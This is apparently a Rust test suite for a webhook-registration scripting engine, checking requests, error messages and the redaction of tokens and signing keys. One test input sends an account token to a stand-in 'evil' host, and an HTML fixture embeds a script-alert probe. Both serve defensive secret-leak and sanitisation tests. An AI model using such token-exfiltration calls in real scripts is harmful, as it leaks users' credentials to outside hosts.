//! Lifecycle calls against a provider in memory: requests as they leave, answers as they come
//! back, and no secret in any error.

use std::collections::BTreeMap;

use hearken_engine::{
    HttpError, IdentityContext, LifecycleContext, LifecycleError, ProviderAppContext,
    SubscriptionStatus, script::ScriptError,
};
use secrecy::ExposeSecret;
use serde_json::{Value, json};

use super::{Provider, compile, context};

/// Runs `register` with this body.
pub(crate) fn register(
    body: &str,
    provider: &Provider,
) -> Result<hearken_engine::Registration, LifecycleError> {
    register_in(&context(), body, provider)
}

pub(crate) fn register_in(
    context: &LifecycleContext,
    body: &str,
    provider: &Provider,
) -> Result<hearken_engine::Registration, LifecycleError> {
    compile(&format!("fn register(http, trigger) {{\n{body}\n}}")).register(provider, context)
}

pub(crate) fn script_error(result: Result<impl std::fmt::Debug, LifecycleError>) -> ScriptError {
    match result {
        Err(LifecycleError::Script(error)) => error,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_registration_goes_out_and_comes_back() {
    let provider = Provider::answering(201, r#"{"id": 9007199254740993, "secret": "from-them"}"#);
    let body = r#"
        let res = http.post(trigger.base_url + "/repos/" + url_encode(trigger.config.owner + "/x"), #{
            headers: #{ "Authorization": "Bearer " + trigger.account.token, "X-Api-Version": 3 },
            json: #{ url: trigger.url, secret: trigger.secret, config: trigger.config, shop: trigger.account.metadata.shop },
        });
        if res.status != 201 { provider_error(res); }
        #{ external_id: res.body.id, secret: res.body.secret, expires_at: "2026-11-24T10:00:00Z",
           state: #{ was: trigger.state.cursor, retry: res.headers["retry-after"], old: trigger.external_id } }"#;
    let registration = register(body, &provider).unwrap();
    assert_eq!(registration.external_id.as_deref(), Some("9007199254740993"));
    assert_eq!(registration.secret.unwrap().expose_secret(), "from-them");
    assert_eq!(registration.expires_at, Some(1_795_514_400_000_000));
    assert_eq!(registration.state, json!({ "was": 3, "retry": "7", "old": "17" }));

    let asked = provider.asked();
    assert_eq!(asked[0].method, "POST");
    assert_eq!(asked[0].url, "https://api.acme.example/repos/octo%2Fx");
    let agent = format!("Hearken/{}", env!("CARGO_PKG_VERSION"));
    for (name, value) in [
        ("Authorization", "Bearer tok/en+42"),
        ("X-Api-Version", "3"),
        ("Content-Type", "application/json"),
        ("Accept", "application/json"),
        ("User-Agent", &agent),
    ] {
        assert_eq!(asked[0].headers.get(name).map(String::as_str), Some(value), "{name}");
    }
    let sent: Value = serde_json::from_str(asked[0].body.as_ref().unwrap()).unwrap();
    let expected = json!({
        "url": "https://hooks.example/v1/webhooks/acme/trg_1", "secret": "signing-key-9",
        "config": { "owner": "octo", "repo": "hello", "limit": 5 }, "shop": "north",
    });
    assert_eq!(sent, expected);
}

#[test]
fn providers_are_quoted_in_their_own_words() {
    let long = format!("{{\"message\": \"{}\"}}", "word ".repeat(200));
    for (body, message) in [
        (r#"{"message":"Not Found","documentation_url":"https://docs.example"}"#, "Not Found"),
        (
            r#"{"message":"Validation Failed","errors":[{"resource":"Hook","code":"custom","message":"Hook already exists"}]}"#,
            "Validation Failed: Hook already exists",
        ),
        (
            r#"{"message":"Bad","errors":[{"resource":"Hook","field":"url","code":"missing"}]}"#,
            "Bad: Hook url missing",
        ),
        (
            r#"{"error":"invalid_grant","error_description":"Token expired"}"#,
            "invalid_grant: Token expired",
        ),
        (
            r#"{"error":{"code":404,"message":"No such entity","status":"NOT_FOUND"}}"#,
            "No such entity",
        ),
        (
            r#"{"title":"Forbidden","detail":"Scope missing","status":403}"#,
            "Forbidden: Scope missing",
        ),
        (
            r#"{"errors":{"address":["has already been taken"],"topic":["is unknown"]}}"#,
            "address: has already been taken; topic: is unknown",
        ),
        (r#"{"errors":["one","two"]}"#, "one; two"),
        (r#"{"weird":1}"#, r#"{"weird":1}"#),
        ("Service  unavailable\n try later", "Service unavailable try later"),
        ("", "(no explanation: the body is empty)"),
        (
            "<!DOCTYPE html><html><head><title>502 Bad Gateway</title><style>b{}</style></head><body><script>alert(1)</script><h1>502 Bad&nbsp;Gateway</h1> &lt;nginx&gt;</body></html>",
            "an HTML page: \"502 Bad Gateway <nginx>\"",
        ),
    ] {
        let provider = Provider::answering(422, body);
        let call =
            "let res = http.get(trigger.base_url); provider_error(res, \"Check the rights.\")";
        let expected = LifecycleError::Provider {
            status: 422,
            message: message.to_owned(),
            hint: Some("Check the rights.".to_owned()),
            retry_after: Some(7),
        };
        assert_eq!(register(call, &provider).unwrap_err(), expected, "{body}");
    }
    let provider = Provider::answering(500, &long);
    let error =
        register("throw provider_error(http.get(trigger.base_url))", &provider).unwrap_err();
    assert!(
        matches!(error, LifecycleError::Provider { message, hint: None, .. } if message.chars().count() == 500)
    );
}

#[test]
fn a_success_that_is_not_json_is_called_so() {
    let read = "let res = http.get(trigger.base_url); #{ external_id: res.body.id }";
    let error = script_error(register(read, &Provider::answering(200, "<html>login</html>")));
    assert!(error.message.contains("not JSON, status 200"), "{error}");
    let error = script_error(register(read, &Provider::answering(204, "")));
    assert!(error.message.contains("empty body, status 204"), "{error}");
    let test =
        "let res = http.get(trigger.base_url); #{ state: #{ none: res.body == (), ok: res.ok } }";
    let state = register(test, &Provider::answering(204, "")).unwrap().state;
    assert_eq!(state, json!({ "none": true, "ok": true }));
    let failed = register(test, &Provider::answering(404, "nope")).unwrap().state;
    assert_eq!(failed, json!({ "none": true, "ok": false }));
}

#[test]
fn transport_errors_keep_their_kind() {
    for (error, expected) in [
        (HttpError::Timeout { seconds: 15 }, LifecycleError::Timeout { seconds: 15 }),
        (
            HttpError::Denied("a private address".into()),
            LifecycleError::Denied("a private address".into()),
        ),
        (HttpError::Unreachable("refused".into()), LifecycleError::Unreachable("refused".into())),
    ] {
        let result = register("http.get(trigger.base_url)", &Provider::failing(error));
        assert_eq!(result.unwrap_err(), expected);
    }
    let large = Provider::failing(HttpError::TooLarge { limit: 65_536 });
    let error = script_error(register("http.get(trigger.base_url)", &large));
    assert!(error.message.contains("65536"), "{error}");
}

#[test]
fn secrets_are_never_shown() {
    for body in [
        "throw trigger.account.token",
        "throw `${trigger.account.token}`",
        "throw #{ a: [trigger.secret] }",
        "let x = \"a\"; x += trigger.secret; throw x",
        "trigger.secret == \"signing-key-9\"",
        "[trigger.secret] == [\"signing-key-9\"]",
        "[trigger.secret].contains(\"signing-key-9\")",
        "trigger.secret.len()",
        "trigger.secret[0]",
        "trigger.secret.to_json()",
        "#{ state: trigger.secret }",
        "#{ external_id: trigger.secret }",
        "http.get(\"https://evil\" + trigger.account.token)",
        "http.get(trigger.base_url, #{ headers: #{ \"X-A\": trigger.secret + \"\\n\" } })",
        "basic_auth(trigger.secret, ()).oops",
    ] {
        let text = format!("{:?}", register(body, &Provider::default()).unwrap_err());
        assert!(!text.contains("signing-key-9") && !text.contains("tok/en+42"), "{body}: {text}");
    }
    let kind = register(
        "#{ external_id: type_of(trigger.secret) + `${trigger.secret}` + trigger.secret.to_string() }",
        &Provider::default(),
    );
    assert_eq!(kind.unwrap().external_id.as_deref(), Some("Secret[secret][secret]"));
}

#[test]
fn a_failure_that_looks_like_success_says_what_it_means() {
    let answer =
        r#"{"data":{"create":{"objections":["taken"]}},"errors":[{"message":"Throttled"}]}"#;
    let refused = |told: &str, status: u16, message: &str, hint: Option<&str>| {
        // When to ask again is of the answer, where there is one.
        let retry_after = told.contains("(answer").then_some(7);
        let provider = Provider::answering(200, answer);
        let body = format!("let answer = http.get(trigger.base_url); throw {told}");
        let expected = LifecycleError::Provider {
            status,
            message: message.to_owned(),
            hint: hint.map(str::to_owned),
            retry_after,
        };
        assert_eq!(register(&body, &provider).unwrap_err(), expected, "{told}");
    };
    refused("provider_error(answer, #{ status: 429 })", 429, "Throttled", None);
    refused(
        "provider_error(answer, #{ status: 403, hint: \"Ask.\" })",
        403,
        "Throttled",
        Some("Ask."),
    );
    refused(
        "provider_error(#{ status: 422, message: `uri: ${answer.body.data.create.objections[0]}` })",
        422,
        "uri: taken",
        None,
    );
    for (told, part) in [
        ("provider_error(#{ status: 422 })", "`message`"),
        ("provider_error(#{ status: 200, message: \"x\" })", "400 to 599"),
        ("provider_error(#{ message: \"x\" })", "`status`"),
        ("provider_error(answer, #{ statsu: 422 })", "did you mean `status`"),
    ] {
        let body = format!("let answer = http.get(trigger.base_url); throw {told}");
        let error = script_error(register(&body, &Provider::answering(200, answer)));
        assert!(error.message.contains(part), "{told}: {error}");
    }
}

#[test]
fn providers_cannot_echo_secrets() {
    for echoed in [
        "tok/en+42",
        "tok%2Fen%2B42",
        // printf 'tok/en+42' | base64; printf 'me:tok/en+42' | base64
        "dG9rL2VuKzQy",
        "bWU6dG9rL2VuKzQy",
        "signing-key-9",
    ] {
        let body = json!({ "message": format!("bad token {echoed}!") }).to_string();
        let call = "let res = http.get(trigger.base_url, #{ headers: #{ A: basic_auth(\"me\", trigger.account.token) } });
            provider_error(res, \"was: \" + res.text)";
        let error = register(call, &Provider::answering(401, &body)).unwrap_err();
        let LifecycleError::Provider { message, hint, .. } = error else { panic!("{error:?}") };
        assert_eq!(message, "bad token [secret]!", "{echoed}");
        assert!(hint.unwrap().contains("bad token [secret]!"), "{echoed}");
        let error = register(
            "http.get(trigger.base_url)",
            &Provider::failing(HttpError::Unreachable(format!("{echoed}: refused"))),
        );
        if echoed != "bWU6dG9rL2VuKzQy" {
            assert_eq!(error.unwrap_err(), LifecycleError::Unreachable("[secret]: refused".into()));
        }
    }
}

#[test]
fn the_other_functions() {
    let script = compile(
        r#"
        fn unregister(http, trigger) { http.delete(trigger.base_url + "/" + trigger.external_id); }
        fn status(http, trigger) {
            let res = http.get(trigger.base_url);
            if res.status == 404 { return #{ state: "missing" }; }
            if res.body.active { #{ state: "active" } } else { #{ state: "inactive", reason: res.body.why } }
        }
        fn list(http, trigger) {
            let all = [];
            for hook in http.get(trigger.base_url).body { all.push(#{ external_id: hook.id, url: hook.url, active: hook.on }); }
            all
        }
        fn renew(http, trigger) { #{ expires_at: 1795514400, state: trigger.state } }
        "#,
    );
    let context = context();
    let provider = Provider::default();
    script.unregister(&provider, &context).unwrap();
    assert_eq!(provider.asked()[0].url, "https://api.acme.example/17");
    for (status, body, expected) in [
        (200, r#"{"active":true}"#, SubscriptionStatus::Active),
        (
            200,
            r#"{"active":false,"why":"disabled"}"#,
            SubscriptionStatus::Inactive("disabled".into()),
        ),
        (404, "", SubscriptionStatus::Missing),
    ] {
        assert_eq!(script.status(&Provider::answering(status, body), &context).unwrap(), expected);
    }
    let body =
        r#"[{"id":1,"url":"https://a.example","on":false},{"id":"b","url":"https://b.example"}]"#;
    let listed = script.list(&Provider::answering(200, body), &context).unwrap();
    let listed: Vec<_> = listed.iter().map(|s| (s.external_id.as_str(), s.active)).collect();
    assert_eq!(listed, [("1", false), ("b", true)]);
    let renewed = script.renew(&provider, &context).unwrap();
    assert_eq!(
        (renewed.expires_at, renewed.state),
        (Some(1_795_514_400_000_000), json!({ "cursor": 3 }))
    );
    let missing = script.register(&provider, &context).unwrap_err();
    assert_eq!(missing, LifecycleError::MissingFunction("register"));
}

#[test]
fn wrong_results_are_explained() {
    let error = script_error(register("#{ externalid: 1 }", &Provider::default()));
    assert!(
        error.message.contains("`externalid`") && error.message.contains("`external_id`"),
        "{error}"
    );
    assert_eq!(error.line, Some(1));
    let script = compile(
        "fn status(http, trigger) { #{ state: \"gone\" } }\nfn list(http, trigger) { [#{ url: \"x\" }] }",
    );
    let error = script_error(script.status(&Provider::default(), &context()));
    assert!(error.message.contains("\"missing\""), "{error}");
    let error = script_error(script.list(&Provider::default(), &context()));
    assert!(error.message.contains("`external_id`") && error.line == Some(2), "{error}");
}

#[test]
fn an_account_is_identified_by_its_credentials() {
    let LifecycleContext { account, base_url, hosts, .. } = context();
    let provider_app = ProviderAppContext {
        id: "pap_1".to_owned(),
        credentials: BTreeMap::from([("developer_key".to_owned(), "dev-key-77".into())]),
        metadata: json!({ "region": "eu" }),
    };
    let asked = IdentityContext {
        account: account.unwrap(),
        provider_app: Some(provider_app),
        base_url,
        hosts,
    };
    let script = compile(
        r#"fn identify(http, account) {
            let key = account.provider_app.developer_key;
            let answer = http.get(account.base_url + "/me", #{
                headers: #{ "Authorization": "Bearer " + account.token, "X-Key": key },
            });
            if answer.status != 200 { throw provider_error(answer, "Make another."); }
            #{ id: answer.body.id, name: account.kind, metadata: #{ shop: account.metadata.shop, region: account.provider_app.metadata.region } }
        }"#,
    );
    let provider = Provider::answering(200, r#"{"id":42}"#);
    let told = script.identify(&provider, &asked).unwrap();
    assert_eq!((told.id.as_deref(), told.name.as_deref()), (Some("42"), Some("token")));
    assert_eq!(Value::Object(told.metadata), json!({ "shop": "north", "region": "eu" }));
    assert_eq!(provider.asked()[0].headers["X-Key"], "dev-key-77");

    let provider = Provider::answering(401, r#"{"message":"bad token tok/en+42 of dev-key-77"}"#);
    let LifecycleError::Provider { status, message, hint, .. } =
        script.identify(&provider, &asked).unwrap_err()
    else {
        panic!("the provider's refusal is passed on")
    };
    assert_eq!((status, hint.as_deref()), (401, Some("Make another.")));
    assert!(!message.contains("tok/en") && !message.contains("dev-key"), "{message}");

    for (returns, words) in [
        ("#{ id: account.token }", "`id`"),
        ("#{ identity: 1 }", "`identity`"),
        ("#{ metadata: 1 }", "`metadata`"),
        ("#{ metadata: #{ t: account.token } }", "Secret"),
    ] {
        let script = compile(&format!("fn identify(http, account) {{ {returns} }}"));
        let error = script_error(script.identify(&Provider::default(), &asked));
        assert!(error.message.contains(words), "{returns}: {error}");
    }
}
